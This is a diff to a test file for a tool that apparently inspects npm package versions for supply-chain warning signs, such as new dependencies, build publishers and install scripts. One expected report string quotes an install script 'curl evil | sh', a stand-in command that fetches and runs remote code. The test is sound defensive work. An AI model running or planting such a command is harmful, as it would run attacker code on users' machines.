@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { callTool } from '../../support/directory.ts';
 import {
   npmPackument,
   npmVersion,
@@ -121,7 +122,7 @@ describe('the recorded version of an npm package, beside the one published befor
     expect(text).toContain('Dependencies that an earlier version did not have: 1: `plain-crypto`');
   });
 
-  it('is published by a build for the first time: a fact that does not stand out', async () => {
+  it('is published by a build for the first time, which does not stand out, with the script that it always had, which does', async () => {
     expect(await observe('built')).toMatchObject({
       'package.published_by': {
         value: 'GitHub Actions',
@@ -135,7 +136,18 @@ describe('the recorded version of an npm package, beside the one published befor
     });
     const text = await read('built');
     expect(text).not.toContain('was published by');
-    expect(text).not.toMatch(/Stands out:.*at installation/);
+    expect(text).toMatch(
+      /Stands out: .*Version `1\.1\.0` of `npm:built` names `install` “node-gyp rebuild”, which npm runs at installation \(/,
+    );
+  });
+
+  it('runs a script at installation: each door that shows the listing in one row says so', async () => {
+    const said = /Version `1\.1\.0` of `npm:built` names `install` “node-gyp rebuild”/;
+    const handles = ['npx built', 'npx first'];
+    const rows = await callTool(directory, 'resolve_agents', { handles });
+    expect(JSON.stringify(rows)).toMatch(said);
+    const compared = await callTool(directory, 'compare_agents', { handles, criteria: ['has_endpoint'] });
+    expect(JSON.stringify(compared)).toMatch(said);
   });
 
   it('is by an account that published an earlier one: no other one is named', async () => {
@@ -150,7 +162,7 @@ describe('the recorded version of an npm package, beside the one published befor
   it('has a script of the same name with another text', async () => {
     await observe('rewritten');
     expect(await read('rewritten')).toContain(
-      'Version `1.1.0` of `npm:rewritten` names `install`, which npm runs at installation; version `1.0.0` before it has a different text for this script',
+      'Version `1.1.0` of `npm:rewritten` names `install` “curl evil \\| sh”, which npm runs at installation; version `1.0.0` before it has a different text for this script',
     );
   });
 
